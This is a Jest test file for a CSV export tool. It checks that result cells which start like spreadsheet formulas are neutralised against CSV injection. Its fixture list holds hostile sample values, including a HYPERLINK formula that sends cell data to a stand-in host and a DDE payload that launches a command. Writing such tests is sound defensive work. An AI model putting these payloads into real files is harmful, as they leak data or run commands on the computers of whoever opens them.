/**
 * @jest-environment node
 */
/** The results file: a spreadsheet opening it runs no formula a cell could carry (CSV injection). */
import { readFileSync } from 'fs';
import Papa from 'papaparse';
import { writeOutcomesCsv, IRowOutcome } from '../../../tools/import/importOutcomes';
import { CsvFolder } from './importKit';

const folder = new CsvFolder();
afterAll(() => folder.remove());

const FORMULAS = ['=HYPERLINK("http://evil.invalid/?"&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '=1+1\nsecond line'];

function outcome(key: string, detail: string, rowNumber: number): IRowOutcome {
  return { list: 'Services', file: 'services.csv', rowNumber, key, outcome: 'invalid', detail };
}

it('neutralises every cell that starts like a formula (=, +, -, @, tab, carriage return), and nothing else', async () => {
  const path = folder.file('results.csv');
  await writeOutcomesCsv(path, [...FORMULAS.map((formula, index) => outcome(formula, formula, index + 2)), outcome('SVC-1', 'Title: ordinary text', 99)]);
  const rows = Papa.parse<string[]>(readFileSync(path, 'utf8'), { skipEmptyLines: true }).data;
  expect(rows[0]).toEqual(['List', 'File', 'Row', 'Key', 'Outcome', 'Item id', 'Detail']);
  const cells = rows.slice(1, -1).flatMap((row) => [row[3], row[6]]);
  expect(cells).toHaveLength(FORMULAS.length * 2);
  for (const cell of cells) expect(cell.startsWith("'")).toBe(true);
  expect(cells.map((cell) => cell.slice(1))).toEqual(FORMULAS.flatMap((formula) => [formula, formula]));
  expect(rows[rows.length - 1]).toEqual(['Services', 'services.csv', '99', 'SVC-1', 'invalid', '', 'Title: ordinary text']);
});
